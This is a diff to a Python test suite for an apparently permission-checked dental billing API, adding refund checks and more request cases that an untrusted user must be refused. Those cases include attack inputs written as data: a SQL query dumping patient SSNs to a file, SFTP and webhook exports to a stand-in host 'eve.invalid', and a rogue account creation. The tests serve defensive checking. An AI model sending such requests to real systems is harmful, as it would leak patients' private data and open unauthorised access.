@@ -106,6 +106,9 @@ async def test_a_refund_is_limited_by_what_was_paid(desks: Desks) -> None:
     assert is_refused(await refund(small.PayNum, ben))
     assert is_refused(await refund(large.PayNum, cal))
     assert (await refund(small.PayNum, cal)).status == 201
+    assert is_refused(await refund(999_999, cal))
+    ana = await signed_in(desks, desk, ANA.user_num)
+    assert (await refund(999_999, ana)).status in (400, 404)
 
 
 async def test_a_consent_covers_one_payment(desks: Desks) -> None:
@@ -171,10 +174,27 @@ async def test_a_strange_program_finds_no_way_around_the_money(desks: Desks) -> 
         ("PUT", "/claimprocs/1", {"WriteOff": "60"}),
         ("POST", "/claimpayments", {"claimNum": 1, "CheckAmt": "60", "CheckDate": str(TODAY - timedelta(9))}),
         ("PUT", "/adjustments/1", {"AdjAmt": "-20"}),
+        ("PUT", "/adjustments/1", {"AdjNote": "waived"}),
+        ("DELETE", "/claimpayments/1", {}),
+        ("DELETE", f"/procedurelogs/{proc.ProcNum}", {}),
+        ("PUT", "/fees/1", {"Amount": "1"}),
+        ("POST", "/definitions", {"ItemName": "Courtesy", "category": "AdjTypes", "ItemValue": "-"}),
+        ("PUT", "/queries/ShortQuery", {"SqlCommand": "SELECT SSN FROM patient INTO OUTFILE 'x'"}),
+        (
+            "POST",
+            "/queries",
+            {
+                "SqlCommand": "SELECT 1",
+                "SftpAddress": "eve.invalid",
+                "SftpUsername": "e",
+                "SftpPassword": "e",
+            },
+        ),
         ("POST", "/userods", {"UserName": "eve", "UserGroupNum": 1, "Password": "x"}),
         ("POST", "/subscriptions", {"EndPointUrl": "http://eve.invalid", "WatchTable": "Patient"}),
     ):
-        assert is_refused(await desk.raw(verb, path, json.dumps(body).encode(), **ben)), path
+        sent = json.dumps(body).encode() if body else None
+        assert is_refused(await desk.raw(verb, path, sent, **ben)), path
     assert desks.faults.seen == ["ProcedureLogs.list"]
 
 
@@ -200,11 +220,15 @@ CALLS: list[tuple[str, dict[str, Any], Sequence[Demand]]] = [
     ("PayPlans.create", {"useEstBalance": True}, [Demand(Right.PAY_PLAN, ANY)]),
     ("ClaimPayments.create", {"CheckAmt": AMOUNT}, [Demand(Right.PAYMENT, AMOUNT)]),
     ("ClaimPayments.create_batch", {"CheckAmt": -AMOUNT}, [Demand(Right.REFUND, AMOUNT)]),
-    ("ClaimPayments.delete", {"ClaimPaymentNum": 3}, [Demand(Right.PAYMENT, ANY)]),
+    (
+        "ClaimPayments.delete",
+        {"ClaimPaymentNum": 3},
+        [Demand(Right.PAYMENT, ANY), Demand(Right.REFUND, ANY)],
+    ),
     (
         "ClaimProcs.update",
         {"ClaimProcNum": 3, "InsPayAmt": AMOUNT, "WriteOff": AMOUNT},
-        [Demand(Right.PAYMENT, ANY), Demand(Right.WRITE_OFF, ANY)],
+        [Demand(Right.PAYMENT, ANY), Demand(Right.REFUND, ANY), Demand(Right.WRITE_OFF, ANY)],
     ),
     ("ClaimProcs.update", {"ClaimProcNum": 3, "WriteOff": AMOUNT}, [Demand(Right.WRITE_OFF, ANY)]),
     ("ClaimProcs.update", {"ClaimProcNum": 3, "Remarks": "sent"}, []),
